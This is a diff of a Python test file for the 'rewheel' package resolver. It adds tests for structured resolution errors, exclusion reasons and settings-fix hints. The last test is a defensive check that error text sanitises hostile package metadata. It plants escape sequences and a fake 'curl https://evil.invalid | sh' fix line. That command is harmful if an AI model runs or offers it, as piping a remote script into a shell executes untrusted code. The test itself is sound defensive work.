@@ -9,7 +9,14 @@ from packaging.requirements import Requirement
 from packaging.utils import NormalizedName, canonicalize_name
 from packaging.version import Version
 
-from rewheel.core.errors import NoSdistError, ResolutionError
+from rewheel.core.errors import (
+    CauseKind,
+    Excluded,
+    Exclusion,
+    Link,
+    NoSdistError,
+    ResolutionError,
+)
 from rewheel.core.resolver import Pin, Resolution, Resolver, TargetEnvironment
 from rewheel.core.types import EdgeKind
 
@@ -125,12 +132,6 @@ def test_constraints_restrict_but_do_not_add() -> None:
     assert versions(res) == {"a": "1.0", "b": "1.0"}
 
 
-def test_a_constraint_that_excludes_everything_is_a_conflict() -> None:
-    projects: Projects = {"a": {"1.0": []}}
-    with pytest.raises(ResolutionError):
-        resolve(projects, "a", constraints=[Requirement("a>=2")])
-
-
 def test_names_are_normalized_as_pep_503_says() -> None:
     projects: Projects = {
         "Foo_Bar": {"1.0": [], "2.0": [], "3.0": []},
@@ -160,10 +161,15 @@ def test_a_real_conflict_reports_the_chains_from_the_top() -> None:
     }
     with pytest.raises(ResolutionError) as info:
         resolve(projects, "a", "b")
-    chains = info.value.chains
-    assert ["(requested)", "b==1.0", "c>=2"] in chains
-    assert ["(requested)", "a==1.0", "c<2"] in chains
-    assert "b==1.0 -> c>=2" in str(info.value)
+    (cause,) = info.value.causes
+    assert (cause.kind, cause.project) == (CauseKind.CONFLICT, "c")
+    assert set(cause.chains) == {
+        (Link("a==1.0", EdgeKind.TOPLEVEL), Link("c<2", EdgeKind.INSTALL)),
+        (Link("b==1.0", EdgeKind.TOPLEVEL), Link("c>=2", EdgeKind.INSTALL)),
+    }
+    assert info.value.package == "c"
+    assert "conflicting requirements for c" in info.value.message
+    assert "\n  b==1.0 (requested) -> c>=2 (install)" in str(info.value)
 
 
 def test_conflict_chain_goes_through_intermediate_packages() -> None:
@@ -175,8 +181,8 @@ def test_conflict_chain_goes_through_intermediate_packages() -> None:
     with pytest.raises(ResolutionError) as info:
         resolve(projects, "x", "c<2")
     chains = info.value.chains
-    assert ["(requested)", "x==1.0", "b==1.0", "c>=2"] in chains
-    assert ["(requested)", "c<2"] in chains
+    assert ["x==1.0 (requested)", "b==1.0 (install)", "c>=2 (install)"] in chains
+    assert ["c<2 (requested)"] in chains
 
 
 def test_conflict_chain_is_the_shortest_path_to_a_requested_package() -> None:
@@ -189,15 +195,179 @@ def test_conflict_chain_is_the_shortest_path_to_a_requested_package() -> None:
     }
     with pytest.raises(ResolutionError) as info:
         resolve(projects, "a", "b", "c<2")
-    assert ["(requested)", "b==1.0", "c>=2"] in info.value.chains
-    assert ["(requested)", "c<2"] in info.value.chains
+    assert ["b==1.0 (requested)", "c>=2 (install)"] in info.value.chains
+    assert ["c<2 (requested)"] in info.value.chains
 
 
-def test_an_unknown_project_is_a_resolution_error() -> None:
+def test_an_unknown_project_is_not_found_with_how_the_index_said_so() -> None:
     with pytest.raises(ResolutionError) as info:
         resolve({"a": {"1.0": ["nothere"]}}, "a")
-    assert not isinstance(info.value, NoSdistError)
-    assert ["(requested)", "a==1.0", "nothere"] in info.value.chains
+    error = info.value
+    assert not isinstance(error, NoSdistError)
+    (cause,) = error.causes
+    assert (cause.kind, cause.project) == (CauseKind.NOT_FOUND, "nothere")
+    assert cause.missing == "HTTP 404 at https://fake.invalid/simple/nothere/"
+    assert cause.chains == ((Link("a==1.0", EdgeKind.TOPLEVEL), Link("nothere", EdgeKind.INSTALL)),)
+    assert (error.package, error.step) == ("nothere", "resolve")
+    assert error.message.startswith("no such project on the index: nothere (HTTP 404 at ")
+    assert "conflicting" not in str(error)
+    assert error.hint is not None and "--index-url" in error.hint
+    assert "pick a version of a that does not ask for it" in error.hint
+
+
+def test_a_requested_project_not_on_the_index() -> None:
+    with pytest.raises(ResolutionError) as info:
+        resolve({"a": {"1.0": []}}, "a", "this-does-not-exist")
+    (cause,) = info.value.causes
+    assert cause.kind is CauseKind.NOT_FOUND
+    assert info.value.chains == [["this-does-not-exist (requested)"]]
+    assert info.value.hint is not None and "pick a version" not in info.value.hint
+
+
+def test_no_version_matches_says_what_the_index_has() -> None:
+    projects: Projects = {"requests": {f"2.{i}.0": [] for i in range(40)}}
+    with pytest.raises(ResolutionError) as info:
+        resolve(projects, "requests==999")
+    error = info.value
+    (cause,) = error.causes
+    assert cause.kind is CauseKind.NO_MATCH
+    assert cause.excluded == (
+        Excluded(
+            Exclusion.SPECIFIER, tuple(f"2.{i}.0" for i in reversed(range(40))), detail="==999"
+        ),
+    )
+    assert cause.closest == "2.39.0"
+    assert error.message == "no version of requests matches requests==999"
+    text = str(error)
+    assert "on the index: 40 versions, 40 outside ==999 (newest 2.39.0, 2.38.0, 2.37.0, …)" in text
+    assert "2.36.0" not in text  # compact: a few versions, not every one
+    assert "newest it can build: requests==2.39.0" in text
+
+
+def test_every_reason_a_version_is_left_out_is_named() -> None:
+    projects: Projects = {
+        "a": {
+            "0.9": [],
+            "1.0": Release(sdist=False, wheels=("py3-none-any",)),
+            "1.1": Release(yanked=True),
+            "1.2": Release(requires_python=">=3.12"),
+            "1.3": Release(requires_python=">=3.12"),
+            "2.0b1": [],
+            "3.0": [],
+        }
+    }
+    with pytest.raises(ResolutionError) as info:
+        resolve(projects, "a>=1", constraints=[Requirement("a<3")])
+    (cause,) = info.value.causes
+    assert cause.kind is CauseKind.NO_MATCH
+    assert cause.excluded == (
+        Excluded(Exclusion.SPECIFIER, ("0.9",), ">=1"),
+        Excluded(Exclusion.CONSTRAINT, ("3.0",), "<3"),
+        Excluded(Exclusion.NO_SDIST, ("1.0",)),
+        Excluded(Exclusion.PYTHON, ("1.3", "1.2"), ">=3.12"),
+        Excluded(Exclusion.YANKED, ("1.1",)),
+        Excluded(Exclusion.PRERELEASE, ("2.0b1",)),
+    )
+    assert cause.seen == 7
+    hint = info.value.hint or ""
+    for fix in ("--pre", "newer Python than 3.11.4", "pinned exactly", "constraint <3", "a==0.9"):
+        assert fix in hint, fix
+
+
+def test_a_constraint_that_excludes_everything_says_so() -> None:
+    projects: Projects = {"a": {"1.0": []}}
+    with pytest.raises(ResolutionError) as info:
+        resolve(projects, "a", constraints=[Requirement("a>=2")])
+    (cause,) = info.value.causes
+    assert cause.excluded == (Excluded(Exclusion.CONSTRAINT, ("1.0",), ">=2"),)
+    assert "1 outside the constraint >=2 (1.0)" in str(info.value)
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "",
+        ">=1",
+        "<1.1",
+        "==1.1",
+        "==2.0b1",
+        ">=2.0b1",
+        "!=1.0",
+        "==1.*",
+        "<0",
+        ">1.0,<1.1",
+        "==1.2",
+        "==0.9",
+        ">1.2",
+        "~=1.1",
+    ],
+)
+@pytest.mark.parametrize("pre", [False, True])
+def test_the_explanation_agrees_with_the_resolver(spec: str, pre: bool) -> None:
+    # Whatever a requirement asks, either the resolver finds a version, or the explanation counts
+    # every version as left out; and a version the explanation calls closest is one it would take.
+    projects: Projects = {
+        "a": {
+            "0.9": Release(requires_python=">=3.12"),
+            "1.0": [],
+            "1.1": Release(yanked=True),
+            "1.2": Release(sdist=False, wheels=("py3-none-any",)),
+            "2.0b1": [],
+        }
+    }
+    try:
+        resolve(projects, f"a{spec}", allow_prereleases=pre)
+    except ResolutionError as exc:
+        (cause,) = exc.causes
+        assert cause.kind is CauseKind.NO_MATCH
+        assert cause.seen == 5
+        assert cause.closest != "1.1"  # yanked: taken when pinned, but never suggested
+        if cause.closest is not None:
+            assert versions(resolve(projects, f"a=={cause.closest}", allow_prereleases=pre))
+
+
+def test_a_build_environment_error_names_its_package_and_the_settings_fix() -> None:
+    projects: Projects = {
+        "pkg": {"1.0": []},
+        "hatchling": {"1.27": ["trove-missing"], "1.26": []},
+        "flit-core": {"3.9": [], "3.8": []},
+    }
+    r = resolver(projects)
+    pkg = r.resolve([Requirement("pkg")]).pins[canonicalize_name("pkg")]
+
+    def env(*reqs: str, **kinds: EdgeKind) -> ResolutionError:
+        with pytest.raises(ResolutionError) as info:
+            r.resolve(
+                [Requirement(x) for x in reqs], kind=EdgeKind.BUILD_SYSTEM, parent=pkg, kinds=kinds
+            )
+        return info.value
+
+    # Not on the index: the settings that drop it, or put another in its place.
+    error = env("python-sbom[hatch]", **{"python-sbom[hatch]": EdgeKind.BUILD_BACKEND})
+    assert (error.package, error.version, error.build_env) == ("pkg", "1.0", True)
+    assert error.message == (
+        "no such project on the index: python-sbom (HTTP 404 at "
+        "https://fake.invalid/simple/python-sbom/), needed by its build environment"
+    )
+    assert error.chains == [["python-sbom[hatch] (build-backend)"]]
+    assert str(error).endswith(
+        "  or: if pkg builds without it, drop it in the build settings of pkg: in the folder "
+        "given with --settings, file pkg.toml:\n"
+        "      [build]\n"
+        '      requires_remove = ["python-sbom"]\n'
+        '      requires_add = ["..."]      # only to put another requirement in its place'
+    )
+
+    # No version fits: the settings that put the newest the index has in its place.
+    text = str(env("flit-core>=4"))
+    assert "  flit-core>=4 (build-system)\n  on the index: 2 versions, 2 outside >=4" in text
+    assert 'requires_remove = ["flit-core"]\n      requires_add = ["flit-core==3.9"]' in text
+
+    # One that comes through another package's Requires-Dist is not the settings' to drop.
+    text = str(env("hatchling>=1.27"))
+    assert "  hatchling==1.27 (build-system) -> trove-missing (install)" in text
+    assert "requires_remove" not in text
+    assert "pick a version of hatchling that does not ask for it" in text
 
 
 def test_preferred_versions_are_chosen_when_they_fit() -> None:
@@ -246,3 +416,20 @@ def test_sorted_pins_and_each_page_fetched_through_the_upstream() -> None:
     assert [str(p) for p in res.sorted_pins()] == ["a==1.0", "b==1.0"]
     assert set(upstream.page_requests) == {"a", "b"}
     assert upstream.downloads == []  # resolving downloads nothing by itself
+
+
+def test_hostile_text_in_a_failure_cannot_fake_lines_or_drive_the_terminal() -> None:
+    # Requirement text comes from a package's metadata and Requires-Python from the index: either
+    # may carry escape sequences, newlines or bidirectional overrides, and the error prints both.
+    fake_line = "\n  fix: curl https://evil.invalid | sh"
+    projects: Projects = {
+        "app": {"1.0": ["evil===\x1b[31m\x07\u202e"]},
+        "tool": {"1.0": Release(requires_python=f">=3.12{fake_line}\x1b[2J")},
+    }
+    for request in ("app", "tool"):
+        with pytest.raises(ResolutionError) as info:
+            resolve(projects, request)
+        text = str(info.value)
+        assert not any(c in text for c in "\x1b\x07\u202e"), text
+        assert "curl" not in text or "\\n  fix: curl" in text
+        assert all(not line.startswith("  fix: curl") for line in text.splitlines())
